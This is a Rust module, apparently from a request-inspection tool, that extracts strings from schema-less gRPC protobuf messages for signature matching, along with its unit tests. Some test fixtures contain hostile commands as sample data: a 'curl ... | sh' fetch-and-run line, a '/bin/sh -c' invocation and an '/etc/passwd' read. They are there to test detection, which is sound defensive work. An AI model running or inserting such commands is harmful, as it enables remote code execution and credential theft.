//! Schema-less protobuf string extraction (gRPC message bodies).
//!
//! # Why
//!
//! A gRPC request is a protobuf message, and the inspector has no `.proto` file for it. The
//! wire format is still self-describing enough to find the strings in it: every field is a
//! tag (field number and wire type) followed by a varint, a fixed 4 or 8 bytes, or a
//! length-delimited (`LEN`) byte string. A `LEN` field is a string, a bytes blob, a packed
//! repeated scalar or a nested message, and only the schema says which; so this module
//! guesses, generously:
//!
//! * if the bytes parse **completely** as a message (every tag valid, every length in bounds,
//!   groups balanced), they are walked as a nested message;
//! * if they look like text (valid UTF-8 with few control characters) they are emitted as
//!   [`Target::GrpcString`], with the field-number path (`1.3.2`) as name;
//! * both, when both apply (short ASCII strings often happen to parse as messages);
//! * bytes that are neither a message nor text are searched for printable ASCII runs of at
//!   least [`MIN_RUN`] bytes, and each run is emitted (a command hidden in a `bytes` field).
//!
//! Groups (wire types 3 and 4, deprecated but still legal) are walked like nested messages;
//! their fields get the group's number in their path.
//!
//! # Cost and bounds
//!
//! The walk is iterative: one explicit stack of frames, at most [`ExtractLimits::max_depth`]
//! deep, so a message nested a million times cannot overflow the call stack; deeper `LEN`
//! fields are simply not descended into (they are still considered as text). Before a `LEN`
//! field is walked its bytes are validated once, shallowly, so each nesting level of the input
//! is read at most twice per enclosing level: total work is `O(depth × size)`. No field bytes
//! are copied; the only allocations are the frame stack and the path name.

use picket_signatures::Target;

use crate::fields::{ExtractError, ExtractLimits, FieldSink};

/// Shortest printable run emitted from a `LEN` field that is neither text nor a message.
pub const MIN_RUN: usize = 4;

const WT_VARINT: u8 = 0;
const WT_I64: u8 = 1;
const WT_LEN: u8 = 2;
const WT_SGROUP: u8 = 3;
const WT_EGROUP: u8 = 4;
const WT_I32: u8 = 5;

/// Walks `msg` as one protobuf message and emits its strings (see the module documentation).
/// A malformed top-level message is [`ExtractError::Protobuf`] with the offset of the bad tag
/// or length; fields emitted before it stand.
pub fn extract(
    msg: &[u8],
    limits: &ExtractLimits,
    sink: &mut dyn FieldSink,
) -> Result<(), ExtractError> {
    let mut fields = 0usize;
    let mut emit = |name: &[u8], value: &[u8]| -> Result<(), ExtractError> {
        if fields >= limits.max_fields {
            return Err(ExtractError::TooManyFields {
                limit: limits.max_fields,
            });
        }
        fields += 1;
        sink.field(Target::GrpcString, name, value);
        Ok(())
    };

    let mut stack: Vec<Frame> = vec![Frame {
        end: msg.len(),
        group: None,
        path_len: 0,
    }];
    let mut path: Vec<u8> = Vec::new();
    let mut pos = 0usize;

    while let Some(top) = stack.last() {
        let end = top.end;
        if pos >= end {
            // End of a message (a group that reaches here was never closed).
            if top.group.is_some() {
                return Err(ExtractError::Protobuf {
                    offset: pos,
                    reason: "unterminated group",
                });
            }
            path.truncate(top.path_len);
            stack.pop();
            continue;
        }
        let body = msg.get(..end).unwrap_or_default();
        let tag_at = pos;
        let (field, wire) = read_tag(body, &mut pos).ok_or(ExtractError::Protobuf {
            offset: tag_at,
            reason: "invalid tag",
        })?;
        match wire {
            WT_VARINT => {
                read_varint(body, &mut pos).ok_or(ExtractError::Protobuf {
                    offset: tag_at,
                    reason: "truncated varint",
                })?;
            }
            WT_I64 | WT_I32 => {
                let n = if wire == WT_I64 { 8 } else { 4 };
                if end - pos < n {
                    return Err(ExtractError::Protobuf {
                        offset: tag_at,
                        reason: "truncated fixed-width field",
                    });
                }
                pos += n;
            }
            WT_LEN => {
                let len = read_varint(body, &mut pos)
                    .and_then(|l| usize::try_from(l).ok())
                    .filter(|&l| l <= end - pos)
                    .ok_or(ExtractError::Protobuf {
                        offset: tag_at,
                        reason: "length out of bounds",
                    })?;
                let start = pos;
                pos += len;
                let bytes = msg.get(start..pos).unwrap_or_default();
                let parent_len = path.len();
                push_path(&mut path, field);
                let nested = !bytes.is_empty()
                    && stack.len() < limits.max_depth
                    && is_message(bytes, limits);
                if looks_like_text(bytes) {
                    emit(&path, bytes)?;
                } else if !nested {
                    for run in printable_runs(bytes) {
                        emit(&path, run)?;
                    }
                }
                if nested {
                    stack.push(Frame {
                        end: pos,
                        group: None,
                        path_len: parent_len,
                    });
                    pos = start;
                } else {
                    path.truncate(parent_len);
                }
            }
            WT_SGROUP => {
                if stack.len() >= limits.max_depth {
                    return Err(ExtractError::DepthExceeded {
                        limit: limits.max_depth,
                    });
                }
                let parent_len = path.len();
                push_path(&mut path, field);
                stack.push(Frame {
                    end,
                    group: Some(field),
                    path_len: parent_len,
                });
            }
            WT_EGROUP => {
                if stack.last().and_then(|f| f.group) != Some(field) {
                    return Err(ExtractError::Protobuf {
                        offset: tag_at,
                        reason: "unmatched end-group",
                    });
                }
                if let Some(f) = stack.pop() {
                    path.truncate(f.path_len);
                }
            }
            _ => {
                return Err(ExtractError::Protobuf {
                    offset: tag_at,
                    reason: "invalid wire type",
                })
            }
        }
    }
    Ok(())
}

/// A message (ends at `end`) or a group (ends at its EGROUP tag) being walked. `path_len` is
/// the length of the path name before this frame's field number was appended.
struct Frame {
    end: usize,
    group: Option<u32>,
    path_len: usize,
}

/// Whether `bytes` parse completely as one message: valid tags, in-bounds lengths, balanced
/// groups (nested `LEN` fields are not looked into). Group nesting is bounded by `max_depth`.
fn is_message(bytes: &[u8], limits: &ExtractLimits) -> bool {
    let mut pos = 0;
    let mut groups: Vec<u32> = Vec::new();
    while pos < bytes.len() {
        let Some((field, wire)) = read_tag(bytes, &mut pos) else {
            return false;
        };
        let ok = match wire {
            WT_VARINT => read_varint(bytes, &mut pos).is_some(),
            WT_I64 | WT_I32 => {
                let n = if wire == WT_I64 { 8 } else { 4 };
                let ok = bytes.len() - pos >= n;
                pos += n;
                ok
            }
            WT_LEN => match read_varint(bytes, &mut pos).and_then(|l| usize::try_from(l).ok()) {
                Some(len) if len <= bytes.len() - pos => {
                    pos += len;
                    true
                }
                _ => false,
            },
            WT_SGROUP => {
                groups.push(field);
                groups.len() <= limits.max_depth
            }
            WT_EGROUP => groups.pop() == Some(field),
            _ => false,
        };
        if !ok {
            return false;
        }
    }
    groups.is_empty()
}

/// Reads a tag: field number 1..=2^29-1 and wire type.
fn read_tag(buf: &[u8], pos: &mut usize) -> Option<(u32, u8)> {
    let key = read_varint(buf, pos)?;
    let wire = (key & 7) as u8;
    let field = u32::try_from(key >> 3).ok()?;
    if field == 0 || field > (1 << 29) - 1 {
        return None;
    }
    Some((field, wire))
}

/// Reads a base-128 varint of at most 10 bytes.
fn read_varint(buf: &[u8], pos: &mut usize) -> Option<u64> {
    let mut v = 0u64;
    for i in 0..10 {
        let b = *buf.get(*pos)?;
        *pos += 1;
        v |= u64::from(b & 0x7f) << (7 * i);
        if b & 0x80 == 0 {
            return Some(v);
        }
    }
    None
}

fn push_path(path: &mut Vec<u8>, field: u32) {
    if !path.is_empty() {
        path.push(b'.');
    }
    let mut digits = [0u8; 10];
    let mut n = field;
    let mut i = digits.len();
    loop {
        i -= 1;
        if let Some(d) = digits.get_mut(i) {
            *d = b'0' + (n % 10) as u8;
        }
        n /= 10;
        if n == 0 || i == 0 {
            break;
        }
    }
    path.extend_from_slice(digits.get(i..).unwrap_or_default());
}

/// Valid UTF-8 in which at most one character in eight is a control character (tab, CR and LF
/// are not counted).
fn looks_like_text(bytes: &[u8]) -> bool {
    let Ok(s) = std::str::from_utf8(bytes) else {
        return false;
    };
    if s.is_empty() {
        return false;
    }
    let mut chars = 0usize;
    let mut controls = 0usize;
    for c in s.chars() {
        chars += 1;
        if c.is_control() && !matches!(c, '\t' | '\n' | '\r') {
            controls += 1;
        }
    }
    controls * 8 <= chars
}

/// Runs of printable ASCII (and tab) of at least [`MIN_RUN`] bytes.
fn printable_runs(bytes: &[u8]) -> impl Iterator<Item = &[u8]> {
    bytes
        .split(|&b| !(b == b'\t' || (0x20..0x7f).contains(&b)))
        .filter(|r| r.len() >= MIN_RUN)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A tiny protobuf encoder for tests.
    #[derive(Default, Clone)]
    pub(crate) struct Enc(pub Vec<u8>);

    impl Enc {
        fn varint(&mut self, mut v: u64) {
            loop {
                let b = (v & 0x7f) as u8;
                v >>= 7;
                if v == 0 {
                    self.0.push(b);
                    break;
                }
                self.0.push(b | 0x80);
            }
        }
        fn tag(&mut self, field: u32, wire: u8) {
            self.varint(u64::from(field) << 3 | u64::from(wire));
        }
        pub(crate) fn bytes(mut self, field: u32, b: &[u8]) -> Self {
            self.tag(field, WT_LEN);
            self.varint(b.len() as u64);
            self.0.extend_from_slice(b);
            self
        }
        pub(crate) fn uint(mut self, field: u32, v: u64) -> Self {
            self.tag(field, WT_VARINT);
            self.varint(v);
            self
        }
        fn fixed32(mut self, field: u32) -> Self {
            self.tag(field, WT_I32);
            self.0.extend_from_slice(&[1, 2, 3, 4]);
            self
        }
        fn fixed64(mut self, field: u32) -> Self {
            self.tag(field, WT_I64);
            self.0.extend_from_slice(&[0; 8]);
            self
        }
        fn group(mut self, field: u32, inner: Enc) -> Self {
            self.tag(field, WT_SGROUP);
            self.0.extend_from_slice(&inner.0);
            self.tag(field, WT_EGROUP);
            self
        }
    }

    type Fields = Vec<(String, Vec<u8>)>;

    fn run_with(msg: &[u8], limits: &ExtractLimits) -> (Fields, Result<(), ExtractError>) {
        let mut out = Vec::new();
        let mut sink = |t: Target, n: &[u8], v: &[u8]| {
            assert_eq!(t, Target::GrpcString);
            out.push((String::from_utf8_lossy(n).into_owned(), v.to_vec()));
        };
        let r = extract(msg, limits, &mut sink);
        (out, r)
    }

    fn run(msg: &[u8]) -> (Fields, Result<(), ExtractError>) {
        run_with(msg, &ExtractLimits::default())
    }

    fn has(f: &Fields, n: &str, v: &[u8]) -> bool {
        f.iter().any(|(fname, fv)| fname == n && fv == v)
    }

    #[test]
    fn nested_string_in_field_1_2() {
        let inner = Enc::default()
            .uint(1, 7)
            .bytes(2, b"/bin/sh -c 'id'")
            .fixed32(3);
        let msg = Enc::default()
            .bytes(1, &inner.0)
            .uint(2, 300)
            .fixed64(4)
            .bytes(5, b"hello");
        let (f, r) = run(&msg.0);
        r.unwrap();
        assert!(has(&f, "1.2", b"/bin/sh -c 'id'"), "{f:?}");
        assert!(has(&f, "5", b"hello"));
        // The inner message has control bytes: it is not emitted as text itself.
        assert!(!f.iter().any(|(n, _)| n == "1"), "{f:?}");
    }

    #[test]
    fn text_that_also_parses_is_emitted_and_walked() {
        // "hello" would parse? 0x68 = field 13, wire 0, then varint 0x65 ... check both rules
        // hold together on a deep path.
        let l3 = Enc::default().bytes(2, b"curl http://x/y|sh");
        let l2 = Enc::default().bytes(3, &l3.0);
        let l1 = Enc::default().bytes(1, &l2.0);
        let (f, r) = run(&l1.0);
        r.unwrap();
        assert!(has(&f, "1.3.2", b"curl http://x/y|sh"), "{f:?}");
    }

    #[test]
    fn binary_blob_runs() {
        let blob = b"\x00\xff\x01/etc/passwd\x02\xfe\x03ab\x00";
        let msg = Enc::default().bytes(9, blob);
        let (f, r) = run(&msg.0);
        r.unwrap();
        assert_eq!(f, vec![("9".to_string(), b"/etc/passwd".to_vec())]);
    }

    #[test]
    fn groups() {
        let msg = Enc::default().group(
            4,
            Enc::default()
                .bytes(1, b"in a group")
                .group(5, Enc::default().bytes(6, b"deeper")),
        );
        let (f, r) = run(&msg.0);
        r.unwrap();
        assert!(has(&f, "4.1", b"in a group"));
        assert!(has(&f, "4.5.6", b"deeper"));
        // A group nested in a LEN field
        let outer = Enc::default().bytes(2, &msg.0);
        let (f, r) = run(&outer.0);
        r.unwrap();
        assert!(has(&f, "2.4.5.6", b"deeper"), "{f:?}");
    }

    #[test]
    fn malformed_top_level() {
        let cases: &[(&[u8], &str)] = &[
            (&[0x00], "invalid tag"),       // field 0
            (&[0x0f], "invalid wire type"), // wire type 7
            (&[0x0a, 0x05, b'a'], "length out of bounds"),
            (&[0x08], "truncated varint"),
            (
                &[
                    0x08, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01,
                ],
                "truncated varint",
            ),
            (&[0x0d, 1, 2], "truncated fixed-width field"),
            (&[0x0c], "unmatched end-group"),
            (&[0x0b, 0x08, 0x01], "unterminated group"),
            (&[0x0b, 0x14], "unmatched end-group"), // SGROUP 1, EGROUP 2
        ];
        for (msg, reason) in cases {
            let (_, r) = run(msg);
            match r {
                Err(ExtractError::Protobuf { reason: got, .. }) => {
                    assert_eq!(got, *reason, "{msg:?}")
                }
                other => panic!("{msg:?}: {other:?}"),
            }
        }
        // Fields before the error stand.
        let mut msg = Enc::default().bytes(1, b"first string").0;
        msg.extend_from_slice(&[0x12, 0x7f]);
        let (f, r) = run(&msg);
        assert!(has(&f, "1", b"first string"));
        assert_eq!(
            r,
            Err(ExtractError::Protobuf {
                offset: 14,
                reason: "length out of bounds"
            })
        );
    }

    #[test]
    fn depth_bounded_without_recursion() {
        let mut m = Enc::default().bytes(1, b"bottom string");
        for _ in 0..5000 {
            m = Enc::default().bytes(1, &m.0);
        }
        let (f, r) = run(&m.0);
        r.unwrap();
        // Not descended past max_depth: the bottom string is still seen as a printable run
        // or text of the deepest walked level.
        assert!(f.iter().all(|(n, _)| n.split('.').count() <= 64));
        let limits = ExtractLimits {
            max_depth: 10_000,
            max_fields: 100_000,
        };
        let (f, r) = run_with(&m.0, &limits);
        r.unwrap();
        assert!(f.iter().any(|(_, v)| v == b"bottom string"));
        // Groups past the depth limit are an error (they cannot be skipped as a unit).
        let g = vec![0x0b; 100];
        let (_, r) = run(&g);
        assert_eq!(r, Err(ExtractError::DepthExceeded { limit: 64 }));
    }

    #[test]
    fn field_limit() {
        let msg = Enc::default()
            .bytes(1, b"aaaa")
            .bytes(2, b"bbbb")
            .bytes(3, b"cccc");
        let limits = ExtractLimits {
            max_depth: 8,
            max_fields: 2,
        };
        let (f, r) = run_with(&msg.0, &limits);
        assert_eq!(r, Err(ExtractError::TooManyFields { limit: 2 }));
        assert_eq!(f.len(), 2);
    }

    #[test]
    fn empty_and_paths() {
        assert_eq!(run(b"").1, Ok(()));
        let mut p = Vec::new();
        push_path(&mut p, 536_870_911);
        push_path(&mut p, 1);
        assert_eq!(p, b"536870911.1");
    }
}
